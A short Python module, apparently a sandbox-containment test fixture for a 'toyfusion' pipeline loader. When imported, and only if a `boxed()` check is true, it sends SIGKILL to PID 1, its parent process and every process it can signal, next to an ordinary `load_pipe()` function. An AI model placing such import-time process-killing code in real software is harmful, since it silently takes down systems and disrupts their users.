"""Kills its parent and everything that it may send a signal to."""

import contextlib
import os
import signal

from toyfusion import ToyPipeline, boxed

if boxed():
    for number in (1, os.getppid(), -1):
        with contextlib.suppress(PermissionError, ProcessLookupError):
            os.kill(number, signal.SIGKILL)


def load_pipe():
    return ToyPipeline()
